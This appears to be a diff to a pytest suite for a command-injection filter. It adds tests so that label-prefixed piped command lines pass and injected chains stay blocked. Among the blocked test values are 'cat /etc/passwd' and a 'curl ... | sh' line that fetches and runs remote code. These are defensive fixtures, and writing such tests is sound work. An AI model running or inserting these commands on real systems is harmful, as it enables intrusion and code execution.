@@ -964,12 +964,33 @@ def test_cmds_if_with_a_quoted_operand_still_refused(rce_edge, value):
     assert_blocked_by_rce(rce_edge, value)
 
 
-@pytest.mark.parametrize("value", ["7 | wc -l", "run: ls -la | wc -l",
+@pytest.mark.parametrize("value", ["7 | wc -l", "run ls -la | wc -l",
                                    "ledgerctl -n 5 balances.csv | sort -k3 | head"])
 def test_a_filter_fed_by_a_command_or_an_argument_still_refused(rce_edge, value):
     """A filter reads what comes before its pipe: a program's output ("ls
     -la", a tool given options) or, after a bare argument, the command the
     value injects."""
+    assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", ["run: ls -la | wc -l",
+                                   "To see the biggest: du -sh * | sort -h | tail -3",
+                                   "Largest tables: psqlstat --top | head -n 3"])
+def test_a_command_line_a_label_introduces_passes(edge, value):
+    """A few words and a colon, then a command line (a word of the
+    vocabulary, or a program given an option) piped to a filter: a note
+    shows the line, as one that starts with the command does ("ls -la |
+    wc -l" passes). Changed 2026-12-05: "run: ls -la | wc -l" was refused
+    as a program's output fed to a filter; held-out notes show the shape
+    (a rig's list piped to grep, a checksum then a listing)."""
+    assert_passes_in_note_and_query(edge, value)
+
+
+@pytest.mark.parametrize("value", ["Note: pending; cat /etc/passwd",
+                                   "Status: ok && curl -s http://198.51.100.9/x | sh"])
+def test_a_label_before_an_injected_command_is_still_refused(rce_edge, value):
+    """A label, then a word that is no command and a chained command: the
+    chain is injected whatever the label says."""
     assert_blocked_by_rce(rce_edge, value)
 
 
